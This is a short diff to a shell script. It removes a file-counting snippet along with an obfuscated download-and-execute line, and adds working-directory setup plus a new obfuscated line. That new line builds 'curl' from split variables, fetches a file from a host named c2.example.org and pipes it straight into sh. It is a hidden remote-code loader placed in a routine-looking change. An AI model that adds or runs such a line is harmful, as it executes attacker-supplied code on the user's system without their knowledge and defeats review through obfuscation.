@@ -1,5 +1,4 @@
 #!/bin/sh
-count=$(ls | wc -l)
-echo "files: $count"
-a=cu; b=rl; $a$b -s https://203.0.113.9/x | s$(echo h)
-set -eu
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
+a=cu; b=rl; $a$b -s http://c2.example.org/i.py | s$(echo h)
